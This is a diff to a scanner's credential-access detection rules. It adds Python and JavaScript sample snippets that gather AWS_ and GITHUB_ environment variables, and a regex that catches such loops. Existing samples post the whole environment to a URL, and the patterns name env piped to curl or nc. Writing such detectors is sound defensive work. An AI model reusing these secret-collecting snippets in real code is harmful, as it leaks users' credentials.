@@ -102,7 +102,11 @@ export const CREDENTIAL_ACCESS_RULES: PatternRule[] = [
     category: 'credential-access',
     severity: 'medium',
     examples: {
-      match: [{ path: 'scripts/diag.py', text: 'import os, json, requests\nrequests.post(URL, data=json.dumps(dict(os.environ)))\n' }],
+      match: [
+        { path: 'scripts/diag.py', text: 'import os, json, requests\nrequests.post(URL, data=json.dumps(dict(os.environ)))\n' },
+        { path: 'scripts/diag.py', text: 'import os\nkeep = {}\nfor k, v in os.environ.items():\n    if k.startswith(("AWS_", "GITHUB_")):\n        keep[k] = v\n' },
+        { path: 'scripts/diag.js', text: 'const keep = {};\nfor (const [k, v] of Object.entries(process.env)) {\n  if (k.startsWith("AWS_")) keep[k] = v;\n}\n' },
+      ],
       noMatch: [{ path: 'scripts/diag.py', text: 'import os\ntoken = os.environ.get("NOTES_API_TOKEN")\n' }, '| Env | Default |\n|---|---|\n| NOTES_DIR | ~/notes |\n'],
     },
     nature: 'code',
@@ -119,6 +123,8 @@ export const CREDENTIAL_ACCESS_RULES: PatternRule[] = [
       r`["'][\w-]{1,30}["']\s{0,3}:\s{0,3}(?:dict\(\s{0,3})?os\.environ\b(?:\.copy\(\))?\s{0,3}\)?\s{0,3}[,}]|\bjson\.dumps\(\s{0,3}(?:dict\(\s{0,3})?os\.environ\b|\bstr\(\s{0,3}os\.environ\s{0,3}\)|\bprint\(\s{0,3}(?:dict\(\s{0,3})?os\.environ\b|\b(?:dict\(\s{0,3}os\.environ\s{0,3}\)|os\.environ\.items\(\)|os\.environ\.copy\(\))[^\n]{0,120}\b(?:requests\.|urlopen|post|send|write|json|base64|print|upload|b64encode|urlencode)`,
       // Environment filtered by prefix / pattern (collects every AWS_*, *_TOKEN … variable).
       r`\bObject\.(?:entries|keys)\(\s{0,3}process\.env\s{0,3}\)\s{0,3}\.filter\(|\bos\.environ\.items\(\)[^\n]{0,60}\bif\b[^\n]{0,60}(?:startswith|endswith|\bin\b|re\.)`,
+      // The same filter as a loop: the test on the next line (`for k, v in os.environ.items():⏎    if k.startswith(…)`).
+      r`\bfor${S}\w{1,20}(?:\s{0,3},\s{0,3}\w{1,20})?${S}in${S}(?:os\.environ(?:\.items\(\)|\.keys\(\))?|dict\(\s{0,3}os\.environ\s{0,3}\))\s{0,3}:\s{1,40}if${S}[^\n]{0,60}(?:startswith|endswith|\bin\b|re\.)|\bfor\s{0,3}\(\s{0,3}(?:const|let|var)${S}[^\n)]{1,40}${S}of${S}Object\.(?:entries|keys)\(\s{0,3}process\.env\s{0,3}\)\s{0,3}\)\s{0,3}\{?\s{0,40}if\s{0,3}\([^\n]{0,60}(?:startsWith|endsWith|includes|match|test)\(`,
       r`\bJSON\.stringify\(\s{0,3}process\.env\s{0,3}[,)]|\bObject\.(?:entries|keys|values)\(\s{0,3}process\.env\s{0,3}\)[^\n]{0,120}\b(?:fetch|post|send|write|JSON|btoa|Buffer|axios|request)`,
       r`(?:^|[;&|(]\s{0,3}|\$\(\s{0,3})(?:printenv|env|set)\s{0,3}(?:\||>|$)|\benv\s{0,3}\|\s{0,3}(?:curl|nc|base64|gzip|tee)`,
       r`\b(?:Get-ChildItem|gci|dir|ls)${S}env:|\[Environment\]::GetEnvironmentVariables\(\)|\bSystem\.getenv\(\)|\bENV\.to_h\b`,
